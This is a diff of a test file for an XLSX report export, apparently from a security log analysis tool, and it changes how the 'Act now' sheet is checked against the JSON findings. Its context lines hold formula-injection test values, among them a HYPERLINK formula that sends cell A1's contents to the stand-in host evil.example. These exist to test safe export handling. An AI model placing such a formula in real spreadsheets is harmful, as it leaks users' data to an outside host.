@@ -197,26 +197,11 @@ describe('report --format xlsx', () => {
     expect(formulaLike).toEqual(expect.arrayContaining(['=HYPERLINK("https://evil.example/?q="&A1,"Open report")', '-2+3', '\t=1+1']));
     for (const app of formulaLike) expect(apps).toContain(cellText(app));
     expect(apps).toContain('=HYPERLINK("https://evil.example/?q="&A1,"Open report")');
-    expect(sheets.get('Act now')).toEqual([
-      {
-        Severity: 'No findings',
-        Kind: null,
-        Title: null,
-        'IP address': null,
-        User: null,
-        Application: null,
-        'First (UTC)': null,
-        'Last (UTC)': null,
-        Attempts: null,
-        Users: null,
-        'IP addresses': null,
-        Applications: null,
-        Successes: null,
-        Why: null,
-        'What to do': null,
-        Evidence: null,
-      },
-    ]);
+    // The findings, as the JSON lists them.
+    expect(json.findings.length).toBeGreaterThan(0);
+    expect(sheets.get('Act now')!.map((row) => [row['Severity'], row['Kind'], row['Title'], row['Attempts'], iso(row['First (UTC)'])])).toEqual(
+      json.findings.map((finding: Json) => [finding.severity, finding.kind, finding.title, (finding.counts as Json).attempts, finding.first]),
+    );
   });
 
   it('overlapping downloads: the coverage sheet lists them as the JSON does', async () => {
